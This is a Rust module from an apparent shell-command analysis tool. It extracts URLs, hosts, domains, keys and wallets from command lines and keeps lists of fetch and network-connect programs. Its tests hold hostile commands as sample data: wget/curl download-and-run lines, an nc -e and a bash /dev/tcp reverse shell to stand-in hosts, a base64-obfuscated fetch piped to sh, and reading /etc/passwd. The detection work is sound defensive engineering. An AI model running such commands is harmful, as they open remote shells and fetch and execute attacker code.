//! A typed line: what its commands fetch, where they connect, whose keys and wallets they bring.

use vespid_model::ObservableKind;
use vespid_shell::{Line, Mapped, SimpleCommand};

use super::{Seen, host, key, shape, text, wallet};

/// Programs that fetch; their operands may lack the scheme.
const FETCH: [&str; 8] = ["wget", "curl", "fetch", "axel", "aria2c", "lwp-download", "lwp-request", "http"];
/// Programs that connect to a host named by an operand.
const CONNECT: [&str; 12] =
    ["tftp", "ftpget", "ftpput", "ftp", "nc", "ncat", "netcat", "telnet", "ssh", "scp", "rsync", "socat"];
/// Programs that ask for a name.
const LOOK_UP: [&str; 6] = ["ping", "nslookup", "dig", "host", "traceroute", "whois"];

pub(super) fn observe(raw: &str, line: &Line, seen: &mut Seen) {
    for command in &line.commands {
        one(command, seen);
    }
    // A here-document and what lies behind a limit are in no command. Keys have spaces in them.
    if raw.contains("<<") || line.truncated {
        text::links(raw, seen);
    }
    for found in [raw].into_iter().chain(line.commands.iter().map(|command| command.line.as_str())) {
        key::find(found, seen);
        wallet::find(found, seen);
        host::socket(found, seen);
    }
    let shape = shape::shape(line);
    // `uname -a` and `whoami` are everybody's.
    if shape.contains("; ") || shape.split(' ').count() > 2 {
        seen.add(ObservableKind::CommandShape, &shape);
    }
}

fn one(command: &SimpleCommand, seen: &mut Seen) {
    let program = command.image.as_deref().and_then(|image| image.rsplit('/').next()).unwrap_or_default();
    for word in &command.argv {
        text::links(word.as_str(), seen);
    }
    for word in command.argv.iter().skip(1).map(Mapped::as_str) {
        if FETCH.contains(&program) {
            host::operand(word, seen);
        } else if CONNECT.contains(&program) {
            host::connected(word, seen);
        } else if LOOK_UP.contains(&program) {
            host::name(word, seen);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> Vec<String> {
        let mut seen = Seen::default();
        observe(text, &vespid_shell::parse(text), &mut seen);
        let found = seen.into_vec();
        let found = found.iter().filter(|it| it.kind() != ObservableKind::CommandShape);
        found.map(|it| format!("{} {}", it.kind(), it.value())).collect()
    }

    #[test]
    fn what_is_fetched_and_from_where() {
        assert_eq!(
            found("cd /tmp; busybox wget http://192.0.2.7/x.sh -O x.sh || curl -O 192.0.2.8/x.sh"),
            ["url http://192.0.2.7/x.sh", "url http://192.0.2.8/x.sh", "host 192.0.2.7", "host 192.0.2.8"]
        );
        assert_eq!(found("tftp -g -r x.sh 192.0.2.9"), ["host 192.0.2.9"]);
        assert_eq!(found("nc evil.example 4444 -e /bin/sh"), ["host evil.example"]);
        assert_eq!(found("ping -c 1 Evil.Example"), ["domain evil.example"]);
        assert_eq!(found("bash -i >& /dev/tcp/203.0.113.8/4444 0>&1"), ["host 203.0.113.8"]);
    }

    #[test]
    fn what_is_hidden_is_found() {
        // echo 'wget http://192.0.2.7/m' | base64
        assert_eq!(
            found("echo d2dldCBodHRwOi8vMTkyLjAuMi43L20K | base64 -d | sh"),
            ["url http://192.0.2.7/m", "host 192.0.2.7"]
        );
        assert_eq!(found("w''get ht\"\"tp://192.0.2.7/m"), ["url http://192.0.2.7/m", "host 192.0.2.7"]);
        assert_eq!(
            found("cat > x <<E\ncurl http://192.0.2.7/m|sh\nE"),
            ["url http://192.0.2.7/m", "host 192.0.2.7"]
        );
    }

    #[test]
    fn what_stays_at_home_is_nothing() {
        for text in [
            "wget http://127.0.0.1/x",
            "ssh localhost",
            "cat /etc/passwd",
            "chmod 777 a.sh; ./a.sh",
            "scp a.sh b.sh",
        ] {
            assert_eq!(found(text), [""; 0], "{text}");
        }
    }
}
